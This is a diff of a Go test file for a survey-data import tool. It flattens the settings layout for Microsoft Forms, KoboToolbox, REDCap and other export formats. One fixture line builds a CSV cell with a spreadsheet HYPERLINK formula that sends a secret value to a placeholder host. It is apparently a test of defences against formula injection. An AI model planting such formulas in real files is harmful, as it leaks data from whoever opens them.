@@ -103,7 +103,7 @@ func TestReads(t *testing.T) {
 			return fmt.Sprintf(`Voirie;%d;%d;"=HYPERLINK(""http://x/`+secret+`"";""x"")"`, a, b)
 		})},
 		"Microsoft Forms": {
-			layout: "  items: {\"Mon travail a du sens.\": A1, \"J’ai le temps.\": A2}\n  direction: {column: \"Votre direction ?\"}\ndrop: [Email, Name]\n",
+			layout: "items: {\"Mon travail a du sens.\": A1, \"J’ai le temps.\": A2}\ndirection: {column: \"Votre direction ?\"}\ndrop: [Email, Name]\n",
 			text: "ID\tStart time\tCompletion time\tEmail\tName\tVotre direction\u00a0?\tMon travail a du sens.\tJ’ai\u00a0le temps.\n" + mixed(func(i int) string {
 				words := []string{"Non", "Peut-être", "Oui"}
 				a, b := pair(i)
@@ -111,7 +111,7 @@ func TestReads(t *testing.T) {
 			}),
 		},
 		"KoboToolbox": {
-			layout: "  direction: {column: g/direction}\ndrop: [_submitted_by, _geolocation]\n",
+			layout: "direction: {column: g/direction}\ndrop: [_submitted_by, _geolocation]\n",
 			text: `{"count":30,"next":null,"results":[` + strings.TrimSuffix(strings.ReplaceAll(mixed(func(i int) string {
 				a, b := pair(i)
 				return fmt.Sprintf(`{"_id":%d,"g/direction":"Voirie","g/A1":"%d","g/A2":%d,"_geolocation":[null,null],"_submitted_by":null,"_validation_status":{}},`, i, a, b)
@@ -122,7 +122,7 @@ func TestReads(t *testing.T) {
 			return fmt.Sprintf(`{"%d":{"id":"%d","submitdate":"1980-01-01 00:00:00","direction":"Voirie","g[A1]":"%d","g[A2]":"%d"}},`, i, i, a, b)
 		}), "\n", ""), ",") + `]}`},
 		"REDCap": {
-			layout: "  direction: {column: direction}\ncomplete: {column: pulse_complete, is: [\"2\"]}\ndrop: [redcap_survey_identifier]\n",
+			layout: "direction: {column: direction}\ncomplete: {column: pulse_complete, is: [\"2\"]}\ndrop: [redcap_survey_identifier]\n",
 			text: "record_id,redcap_survey_identifier,direction,a1,a2,pulse_complete\n99,,voirie,1,1,0\n" + mixed(func(i int) string {
 				a, b := pair(i)
 				return fmt.Sprintf("%d,%s,voirie,%d,%d,2", i, secret, a, b)
@@ -148,9 +148,9 @@ func TestReads(t *testing.T) {
 			t.Parallel()
 			layout := c.layout
 			if layout == "" {
-				layout = "  direction: {column: direction}\n"
+				layout = "direction: {column: direction}\n"
 			}
-			o := newOffice(t, surveys(t), "waves: [{wave: t1, path: t1.*}]\nmapping:\n"+layout)
+			o := newOffice(t, surveys(t), "waves: [{wave: t1, path: t1.*}]\n"+layout)
 			o.write("t1.txt", c.text)
 			o.run()
 			if n := o.responses("t1", ""); n != 30 {
@@ -233,7 +233,7 @@ func TestSettings(t *testing.T) {
 		"delete: true\n":                     {"waves: name at least one"},
 		"waves: [{wave: t9, path: a.csv}]\n": {`"t9" is not a wave`, "t1, t2"},
 		"waves: [{wave: t1, path: a.csv}, {wave: t1, path: \"\"}]\n":      {"twice", `path "" is no file`},
-		"waves: [{wave: t1, path: a.csv}]\nmapping: {items: {x: Z1}}\n":   {`"Z1" is not an item`},
+		"waves: [{wave: t1, path: a.csv}]\nitems: {x: Z1}\n":              {`"Z1" is not an item`},
 		"waves: [{wave: t1, path: a.csv}]\nseparator: ';;'\n":             {"not one character"},
 		"waves: [{wave: t1, path: a.csv, layout: {complete: {is: [x]}}}]": {"complete: write its column"},
 	} {
